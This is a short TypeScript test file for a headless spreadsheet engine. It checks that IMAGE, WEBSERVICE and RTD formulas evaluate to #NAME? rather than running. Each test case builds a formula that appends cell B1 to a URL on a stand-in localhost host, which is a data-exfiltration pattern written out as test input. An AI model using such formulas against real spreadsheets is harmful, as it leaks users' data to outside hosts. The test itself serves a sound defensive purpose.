import { expect, it } from "vitest";
import type { Headless } from "../headless.ts";
import { useHeadless } from "../useHeadless.ts";

let t: Headless;
useHeadless((fresh) => (t = fresh));

it.each(["IMAGE", "WEBSERVICE", "RTD"])("%s is no function here", async (name) => {
  t.type("A1", `=${name}("http://127.0.0.1/?c="&B1)`);
  expect(await t.values("A1")).toEqual([["#NAME?"]]);
});
